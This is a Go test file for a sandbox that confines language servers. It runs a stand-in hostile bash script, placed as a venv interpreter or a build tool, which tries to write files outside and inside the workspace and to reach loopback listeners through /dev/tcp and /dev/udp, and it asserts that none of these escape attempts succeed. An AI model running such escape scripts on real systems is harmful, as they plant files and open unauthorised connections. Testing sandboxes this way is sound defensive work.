//go:build linux

package sandbox

import (
	"bufio"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/agent-lsp/agent-lsp/tools/toolstest"
)

// A language server runs project code: pyright a virtualenv's
// interpreter, rust-analyzer build scripts and proc macros, gopls the go
// command a go.mod steers. Here that code tries to leave: write outside
// the workspace and into it, reach a TCP and a UDP listener of the
// test's on the host's loopback. Nothing of it may reach the host; at
// level none, where nothing could stop it, the start is asked first.

// escapeListeners are what the hostile code tries to reach.
type escapeListeners struct {
	tcp  net.Listener
	udp  net.PacketConn
	got  atomic.Int64 // connections and packets that are not the sentinels
	done chan struct{}
}

// sentinel is what the test itself sends last: whatever the server sent
// came before it.
const sentinel = "sentinel"

func listenForEscapes(t *testing.T) *escapeListeners {
	t.Helper()
	tcp, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	l := &escapeListeners{tcp: tcp, udp: udp, done: make(chan struct{}, 2)}
	go func() {
		for {
			c, err := tcp.Accept()
			if err != nil {
				return
			}
			line, _ := bufio.NewReader(c).ReadString('\n')
			c.Close()
			if strings.TrimSpace(line) == sentinel {
				l.done <- struct{}{}
				continue
			}
			l.got.Add(1)
		}
	}()
	go func() {
		buf := make([]byte, 512)
		for {
			n, _, err := udp.ReadFrom(buf)
			if err != nil {
				return
			}
			if strings.TrimSpace(string(buf[:n])) == sentinel {
				l.done <- struct{}{}
				continue
			}
			l.got.Add(1)
		}
	}()
	t.Cleanup(func() {
		tcp.Close()
		udp.Close()
	})
	return l
}

// reached says how many connections and packets reached the listeners
// before the test's own sentinels did.
func (l *escapeListeners) reached(t *testing.T) int64 {
	t.Helper()
	c, err := net.Dial("tcp", l.tcp.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintln(c, sentinel)
	c.Close()
	u, err := net.Dial("udp", l.udp.LocalAddr().String())
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintln(u, sentinel)
	u.Close()
	<-l.done
	<-l.done
	return l.got.Load()
}

// escapeScript is the hostile code: each attempt says on stdout whether
// it worked, then "done".
func escapeScript(l *escapeListeners, outside string) string {
	_, tcpPort, _ := net.SplitHostPort(l.tcp.Addr().String())
	_, udpPort, _ := net.SplitHostPort(l.udp.LocalAddr().String())
	return fmt.Sprintf(`#!/bin/bash
echo pwned > %[1]s/escaped 2>/dev/null && echo ESCAPED: wrote outside the workspace
echo pwned > "$PWD/planted" 2>/dev/null && echo ESCAPED: wrote into the workspace
(exec 3<>/dev/tcp/127.0.0.1/%[2]s && echo pwned >&3) 2>/dev/null && echo ESCAPED: connected over TCP
(echo pwned > /dev/udp/127.0.0.1/%[3]s) 2>/dev/null && echo sent a UDP packet
mkdir -p "$CARGO_TARGET_DIR" && echo built > "$CARGO_TARGET_DIR/out" && echo built in the cache
echo done
`, outside, tcpPort, udpPort)
}

// runHostileServer starts argv (hostile code, which prints what escaped)
// as a server of ws, checks that nothing of it reached the host, and
// returns its output.
func runHostileServer(t *testing.T, ws string, env []string, l *escapeListeners, outside string, argv ...string) string {
	t.Helper()
	if c := Probe(); c.Level == None {
		if !c.ServerNeedsApproval() {
			t.Fatal("at level none a server starts without asking")
		}
		t.Skip("level none: nothing keeps the server's code in; its start is asked first (ServerNeedsApproval)")
		return ""
	}
	p, err := Start(t.Context(), Spec{Argv: argv, View: serverView(t, ws, nil), Cache: t.TempDir(), Env: env})
	if err != nil {
		t.Fatal(err)
	}
	defer p.Kill()
	out, _ := readAll(p)
	if res, err := p.Wait(); err != nil || res.ExitCode != 0 {
		t.Errorf("the hostile server exited %+v, %v: %s", res, err, out)
	}
	if !strings.HasSuffix(out, "done\n") || strings.Contains(out, "ESCAPED") {
		t.Errorf("the hostile code got out:\n%s", out)
	}
	if n := l.reached(t); n != 0 {
		t.Errorf("%d connections or packets reached the host's listeners", n)
	}
	entries, _ := os.ReadDir(outside)
	if len(entries) != 0 {
		t.Errorf("written outside the workspace: %v", entries)
	}
	if _, err := os.Lstat(filepath.Join(ws, "planted")); err == nil {
		t.Error("written into the workspace")
	}
	return out
}

func readAll(p *Process) (string, error) {
	var b strings.Builder
	_, err := bufio.NewReader(p.Stdout()).WriteTo(&b)
	return b.String(), err
}

// pyright starts the workspace's virtualenv interpreter: .venv/bin/python
// here is hostile, started as the server would start it.
func TestHostileServerVenvPython(t *testing.T) {
	l := listenForEscapes(t)
	outside := t.TempDir()
	ws := toolstest.WriteTree(t, map[string]string{"pyproject.toml": "[project]\nname = \"m\"\n"})
	python := filepath.Join(ws, ".venv", "bin", "python")
	toolstest.WriteFiles(t, ws, map[string]string{".venv/bin/python": escapeScript(l, outside)})
	if err := os.Chmod(python, 0o755); err != nil {
		t.Fatal(err)
	}
	runHostileServer(t, ws, os.Environ(), l, outside, python, "-c", "import sys")
}

// rust-analyzer runs a crate's build scripts: the stand-in, found on the
// PATH the server gets, is one.
func TestHostileServerBuildScript(t *testing.T) {
	l := listenForEscapes(t)
	outside, bin := t.TempDir(), t.TempDir()
	if err := os.WriteFile(filepath.Join(bin, "rust-analyzer"), []byte(escapeScript(l, outside)), 0o755); err != nil {
		t.Fatal(err)
	}
	ws := toolstest.WriteTree(t, map[string]string{"Cargo.toml": "[package]\nname = \"m\"\nversion = \"0.1.0\"\n", "build.rs": "fn main() {}\n", "src/main.rs": "fn main() {}\n"})
	env := append(os.Environ(), "PATH="+bin+string(os.PathListSeparator)+os.Getenv("PATH"))
	// What Cargo builds goes to the server's cache: its view is read-only.
	if out := runHostileServer(t, ws, env, l, outside, "rust-analyzer"); !strings.Contains(out, "built in the cache") {
		t.Errorf("the build script could not write its target dir:\n%s", out)
	}
}

// A go.mod's toolchain line names a Go to download, and the caller's
// environment points go at a proxy and asks for the switch: gopls,
// started through Start, answers and loads the package with the local Go,
// and nothing asks the proxy — at every level, since the environment is
// what keeps Go local. Run on the host with that environment, go does ask
// it (the test's premise).
func TestHostileServerGoToolchain(t *testing.T) {
	gopls := toolstest.LanguageServer(t, "gopls")
	var asked atomic.Int64
	proxy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked.Add(1)
		http.NotFound(w, r)
	}))
	defer proxy.Close()
	files := map[string]string{"go.mod": "module example.com/m\n\ngo 1.22\n\ntoolchain go1.99.0\n", "main.go": "package main\n\nfunc Hello() string { return \"hi\" }\n\nfunc main() { _ = Hello() }\n"}
	ws := toolstest.WriteTree(t, files)
	env := append(os.Environ(), "GOTOOLCHAIN=go1.99.0", "GOPROXY="+proxy.URL, "GOFLAGS=-mod=mod", "GOSUMDB=sum.golang.org", "GONOSUMDB=", "GONOSUMCHECK=")

	host := exec.Command("go", "list", ".")
	host.Dir, host.Env = ws, append(env, "GOCACHE="+t.TempDir(), "GOTOOLCHAIN=auto")
	if out, err := host.CombinedOutput(); err == nil || asked.Load() == 0 {
		t.Fatalf("on the host, go did not ask the proxy for go1.99.0 (%v): %s", err, out)
	}
	asked.Store(0)

	var stderr strings.Builder
	p, err := Start(t.Context(), Spec{Argv: []string{gopls}, View: serverView(t, ws, nil), Cache: t.TempDir(), Env: env, Stderr: &lockedWriter{w: &stderr}})
	if err != nil {
		t.Fatal(err)
	}
	defer p.Kill()
	c := newLSPConn(t, p)
	c.initialize()
	uri := fileURI(filepath.Join(p.Dir(), "main.go"))
	c.notify("textDocument/didOpen", map[string]any{"textDocument": map[string]any{"uri": uri, "languageId": "go", "version": 1, "text": files["main.go"]}})
	// Hover type-checks the package: go list has run by its answer.
	hover := c.call(2, "textDocument/hover", map[string]any{"textDocument": map[string]any{"uri": uri}, "position": map[string]int{"line": 4, "character": 19}})
	if !strings.Contains(string(hover), "func Hello() string") {
		t.Errorf("hover answered %s; stderr:\n%s", hover, stderr.String())
	}
	c.shutdown(3)
	if n := asked.Load(); n != 0 {
		t.Errorf("the proxy was asked %d times", n)
	}
}
